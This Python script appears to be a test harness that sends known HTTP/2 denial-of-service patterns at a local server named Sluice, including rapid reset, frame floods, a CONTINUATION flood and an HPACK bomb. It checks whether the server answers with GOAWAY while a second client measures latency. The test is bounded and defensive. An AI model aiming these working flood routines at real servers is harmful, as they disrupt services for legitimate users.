#!/usr/bin/python3
"""An HTTP/2 client that attacks Sluice as the floods and resets of 2023-2025 did, with raw
frames (hpack for the header blocks), while a second, well-behaved client keeps asking for a
page over its own connection. Prints one JSON object: the GOAWAY Sluice sent (its error code),
how many attack frames went out, and what the other client saw (answers, slowest latency).

    h2_attack.py PORT CA_FILE HOST ATTACK

Every loop is bounded: at most MAX_FRAMES frames and MAX_SECONDS seconds.
"""
import http.client
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

MAX_FRAMES = 200_000
MAX_SECONDS = 10.0
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS = 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


class Attacker:
    def __init__(self, port, ca, host):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port))
        self.sock = context.wrap_socket(raw, server_hostname=host)
        assert self.sock.selected_alpn_protocol() == "h2", "Sluice did not choose h2"
        self.host = host
        self.encoder = hpack.Encoder()
        self.inbox = b""
        self.goaway = None
        self.closed = False
        self.sent = 0
        self.next_stream = 1
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def request_block(self, method="GET", path="/", extra=()):
        return self.encoder.encode([(":method", method), (":scheme", "https"),
                                    (":authority", self.host), (":path", path), *extra])

    def stream(self):
        s = self.next_stream
        self.next_stream += 2
        return s

    def send(self, data, frames=1):
        try:
            self.sock.sendall(data)
            self.sent += frames
        except OSError:
            self.closed = True

    def poll(self, wait=0.0):
        """Reads what has arrived; notes a GOAWAY and acknowledges SETTINGS."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready and self.sock.pending() == 0:
                return
            wait = 0.0
            try:
                chunk = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.inbox += chunk
            while len(self.inbox) >= 9:
                length = struct.unpack(">I", b"\0" + self.inbox[:3])[0]
                if len(self.inbox) < 9 + length:
                    break
                kind, flags = self.inbox[3], self.inbox[4]
                payload = self.inbox[9:9 + length]
                self.inbox = self.inbox[9 + length:]
                if kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif kind == SETTINGS and not flags & 1:
                    self.send(frame(SETTINGS, 1, 0), 0)

    def run(self, attack):
        started = time.monotonic()
        step = getattr(self, "attack_" + attack)
        while (self.goaway is None and not self.closed and self.sent < MAX_FRAMES
               and time.monotonic() - started < MAX_SECONDS):
            step()
            self.poll()
        # Whatever was in flight: give the GOAWAY a moment to arrive.
        deadline = time.monotonic() + 2
        while self.goaway is None and not self.closed and time.monotonic() < deadline:
            self.poll(0.05)
        return time.monotonic() - started

    # Each step sends a burst of frames.
    def attack_rapid_reset(self):
        burst = b""
        for _ in range(50):
            s = self.stream()
            burst += frame(HEADERS, END_STREAM | END_HEADERS, s, self.request_block())
            burst += frame(RST_STREAM, 0, s, struct.pack(">I", 8))  # CANCEL
        self.send(burst, 100)

    def attack_settings_flood(self):
        self.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100, 100)

    def attack_ping_flood(self):
        self.send(frame(PING, 0, 0, b"12345678") * 100, 100)

    def attack_priority_flood(self):
        burst = b""
        for i in range(100):
            burst += frame(PRIORITY, 0, 1001 + 2 * i, struct.pack(">IB", 0, 16))
        self.send(burst, 100)

    def attack_window_update_flood(self):
        self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100, 100)

    def attack_empty_data_flood(self):
        if not hasattr(self, "upload"):
            self.upload = self.stream()
            self.send(frame(HEADERS, END_HEADERS, self.upload, self.request_block("POST", "/")))
        self.send(frame(DATA, 0, self.upload) * 100, 100)

    def attack_made_you_reset(self):
        # Each stream provokes Sluice into resetting it, after it started work for the
        # request.
        burst = b""
        for _ in range(50):
            s = self.stream()
            burst += frame(HEADERS, END_STREAM | END_HEADERS, s, self.request_block())
            # A window past 2^31-1: a stream error (RFC 9113 §6.9.1), the stream reset.
            burst += frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7FFFFFFF))
        self.send(burst, 100)

    def attack_continuation_flood(self):
        if not hasattr(self, "endless"):
            self.endless = self.stream()
            self.send(frame(HEADERS, 0, self.endless, self.request_block()))
        burst = b""
        for i in range(100):
            burst += frame(CONTINUATION, 0, self.endless,
                           self.encoder.encode([("x-filler-%d" % (self.sent + i), "a" * 32)]))
        self.send(burst, 100)

    def attack_hpack_bomb(self):
        # One 4 KiB field enters the decoder's table; then every byte of a block names it.
        if not hasattr(self, "armed"):
            self.armed = True
            big = self.request_block(extra=[("x-big", "b" * 4000)])
            self.send(frame(HEADERS, END_STREAM | END_HEADERS, self.stream(), big))
            return
        s = self.stream()
        index = bytes([0x80 | 62])  # the newest entry of the dynamic table: x-big
        block = self.request_block() + index * 16000
        self.send(frame(HEADERS, END_STREAM | END_HEADERS, s, block))


def other_client(port, ca, host, stop, seen):
    context = ssl.create_default_context(cafile=ca)
    while not stop.is_set():
        try:
            connection = http.client.HTTPSConnection("127.0.0.1", port, context=context,
                                                     timeout=5)
            connection.sock = context.wrap_socket(
                socket.create_connection(("127.0.0.1", port)), server_hostname=host)
            while not stop.is_set():
                started = time.monotonic()
                connection.request("GET", "/", headers={"Host": host})
                response = connection.getresponse()
                response.read()
                seen["latencies"].append(time.monotonic() - started)
                seen["ok"] += response.status == 200
                time.sleep(0.01)
        except OSError as error:
            seen["errors"].append(str(error))
            time.sleep(0.01)


def main():
    port, ca, host, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    stop = threading.Event()
    seen = {"ok": 0, "latencies": [], "errors": []}
    helper = threading.Thread(target=other_client, args=(port, ca, host, stop, seen))
    helper.start()
    time.sleep(0.2)
    attacker = Attacker(port, ca, host)
    elapsed = attacker.run(attack)
    time.sleep(0.2)
    stop.set()
    helper.join()
    print(json.dumps({
        "attack": attack,
        "goaway": attacker.goaway,
        "closed": attacker.closed,
        "frames": attacker.sent,
        "seconds": round(elapsed, 3),
        "other_ok": seen["ok"],
        "other_max_ms": round(1000 * max(seen["latencies"] or [0]), 1),
        "other_errors": seen["errors"][:3],
    }))


if __name__ == "__main__":
    main()
